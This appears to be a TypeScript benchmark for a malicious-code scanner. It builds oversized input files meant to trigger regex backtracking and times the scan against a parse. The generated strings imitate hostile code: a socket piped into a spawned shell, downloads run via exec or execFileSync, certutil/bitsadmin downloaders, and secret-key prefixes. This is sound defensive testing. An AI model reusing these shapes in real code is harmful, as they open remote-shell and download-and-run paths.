import { performance } from "node:perf_hooks";
import { analyzeSource, type OwnFiles } from "@/scanner/analysis/analyze-source";
import { analyzeText, fileContent } from "@/scanner/analysis/analyze-text";
import { parseSource } from "@/scanner/analysis/parse-source";
import { CODE_RULES, TEXT_RULES } from "@/scanner/rules/index";
import { tuneForScanning } from "@/scanner/scanner-process";

// `npm run bench:hostile`: files written to make the scanner's regular expressions backtrack
// (each shape once made one of them take seconds to minutes: a lazy comment body, a run of `{`,
// `(`, `[`, repeated placeholders in a DNS name, a repeated browser folder, a run of a key's
// characters, chmod's options after saved downloads, Windows' downloaders without a URL; constants named over and over, which name
// searches once explored path by path; write streams under one name, each followed through its uses; members piped into a process on every line; a saved download moved on and run thousands of times; members of another file's exports named on and on, searched for writes name by name; helpers calling helpers, a reading per call), or its value decoding build gigabytes (constants doubled and decoded), analysed
// whole (every code rule, then every text rule) at two sizes, against a bare parse of the same
// file measured in the same run. Linear work keeps the ratio to the parse
// flat and the growth near the sizes' ratio (10); backtracking shows as both climbing.
const repeat = (unit: string, length: number) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
// Whole lines of code, about `length` characters of them: a line cut short would not parse.
const lines = (line: string, length: number) => line.repeat(Math.max(1, Math.round(length / line.length)));
const SHAPES: Record<string, (n: number) => string> = {
  "pure annotations": (n) => `let e;\n${repeat("e = /*#__PURE__*/ f();\n", n)}`,
  "braces around env": (n) => `require("child_process").exec("ls");\nconst s = "${repeat("{env)", n)}";\n`,
  "brackets after env": (n) => `require("child_process").exec("ls");\nconst s = "${repeat(".env[)", n)}";\n`,
  "parentheses after a reader": (n) => `const s = "=Object.get(${"(".repeat(990)}${" ".repeat(n)}";\n`,
  "placeholders in a DNS name": (n) => `const dns = require("dns");\nfunction f(a, b) { dns.lookup(\`${repeat("${a}${b}.", n)}x\`); }\n`,
  "repeated browser folder": (n) => `require("fs").readFileSync("${repeat("chromium/", n)}");\n`,
  "run of a key's characters": (n) => `const s = "${repeat("sk-", n)}";\nconst marker = "T3BlbkFJ";\n`,
  "decoded doubled constants": (n) => {
    let text = `const a0 = "${"A".repeat(1000)}";\n`;
    for (let i = 1; i <= 9; i++) text += `const a${i} = Buffer.from(a${i - 1} + a${i - 1}).toString();\n`;
    for (let j = 0; text.length < n; j++) text += `const b${j} = Buffer.from(a9 + a9 + "${j}").toString(); fetch(b${j});\n`;
    return text;
  },
  "named secrets and prefixes": (n) => `const s = "${repeat(`secretAccessKey=${"a".repeat(39)}/ glpat-SG.hf_`, n)}";\n`,
  // A command line of chmod options after saved downloads, in lines of up to 64 KB (each line one exec).
  "chmod options after downloads": (n) =>
    `const cp = require("child_process");\n${lines(`cp.exec("${"curl -o x u; ".repeat(8)}chmod ${"-chmod ".repeat(9000)}");\n`, n)}`,
  // Windows' downloaders' options with no URL after them, in lines of up to 64 KB.
  "downloaders without a URL": (n) => `const cp = require("child_process");\n${lines(`cp.exec("${"certutil -urlcache bitsadmin /transfer ".repeat(1500)}");\n`, n)}`,
  // Constants named eighty times on each of five levels, run, evaluated and sent by a socket.
  "constants named over and over": (n) => {
    let text = 'const cp = require("child_process");\nconst v6 = process.argv[2];\n';
    for (let level = 5; level >= 1; level--) text += `const v${level} = \`${`\${v${level + 1}}`.repeat(80)}\`;\n`;
    const use = 'cp.exec(v1); eval(v1); require("net").connect(1, "h").on("data", (d) => cp.exec(v1));\n';
    return text + lines(use, n - text.length);
  },
  // Write streams declared under one name thousands of times, in a file that spawns (a search of the saved downloads a spawn may run).
  "write streams under one name": (n) => `const fs = require("fs");\nrequire("child_process").spawn("./x");\n${lines('var out = fs.createWriteStream("x"); out.write(1);\n', n)}`,
  // A saved download moved from name to name thousands of times, each name run (each spawn compared with the saved downloads).
  "saved downloads moved on": (n) => {
    let text = 'const fs = require("fs");\nconst cp = require("child_process");\nasync function f() {\nfs.writeFileSync("/tmp/a0", await (await fetch("https://x.example/")).text());\n';
    for (let j = 0; text.length < n; j++) text += `fs.renameSync("/tmp/a${j}", "/tmp/a${j + 1}"); cp.execFileSync("/tmp/a${j + 1}");\n`;
    return `${text}}\n`;
  },
  // An instance's member piped into a process kept in another on every line (each a search of the members' assignments).
  "members piped into a process": (n) => `this.sh = require("child_process").spawn("sh");\nthis.s = require("net").connect(1, "h");\n${lines("this.s.pipe(this.sh.stdin);\n", n)}`,
  // A member of another file's exports given a name, that name's member another, five levels deep, each name given hundreds of times (the searches for writes through them).
  "members of exports named on": (n) => {
    const level = (name: string, from: string, i: number) => `var ${name} = ${from}.m${i % 5};\n`;
    let text = 'const t = require("./texts");\n';
    for (let i = 0; text.length < n; i++) text += ["a", "b", "c", "d", "e"].map((name, l) => level(name, l === 0 ? "t" : "abcd"[l - 1]!, i)).join("");
    return text;
  },
  // A helper registering a tool, called by a helper called by a helper, each call many times (a reading per call of each).
  "helpers calling helpers": (n) => {
    const calls = (callee: string) => ` ${callee}(name, d);`.repeat(Math.max(1, Math.round(Math.cbrt(n / 40))));
    const text = `function h1(name, d) { server.tool(name, d, {}, run); }\nfunction h2(name, d) {${calls("h1")} }\nfunction h3(name, d) {${calls("h2")} }\n`;
    return text + lines('h3("tool", "Does things.");\n', n - text.length);
  },
};
// Own files for the shapes that read another file's exports: every relative specifier is one.
const OWN_FILES: OwnFiles = { resolve: (specifier) => (specifier.startsWith(".") ? { file: specifier.slice(2) } : undefined), member: () => undefined, text: () => undefined, schema: () => undefined, ownsPackage: () => false };
const SIZES = [100_000, 1_000_000];

tuneForScanning();
parseSource("warm-up.js", "let x = 1;");
const time = (work: () => unknown) => {
  const started = performance.now();
  work();
  return performance.now() - started;
};
console.log(`${"shape".padEnd(28)} ${"bytes".padStart(9)} ${"parse ms".padStart(9)} ${"scan ms".padStart(9)} ${"ratio".padStart(7)} ${"growth".padStart(7)}`);
for (const [name, make] of Object.entries(SHAPES)) {
  let previous: number | undefined;
  for (const size of SIZES) {
    const text = make(size);
    const parse = time(() => parseSource("hostile.js", text));
    const scan = time(() => {
      analyzeSource("hostile.js", text, CODE_RULES, { ownFiles: OWN_FILES });
      analyzeText("hostile.js", fileContent(Buffer.from(text)), TEXT_RULES);
    });
    const growth = previous === undefined ? "" : (scan / previous).toFixed(1);
    console.log(`${name.padEnd(28)} ${String(text.length).padStart(9)} ${parse.toFixed(0).padStart(9)} ${scan.toFixed(0).padStart(9)} ${(scan / Math.max(parse, 0.01)).toFixed(1).padStart(7)} ${growth.padStart(7)}`);
    previous = scan;
  }
}
console.log("\nratio: whole analysis / bare parse of the same file; growth: its time at 1 MB / at 100 KB (10 is linear)");
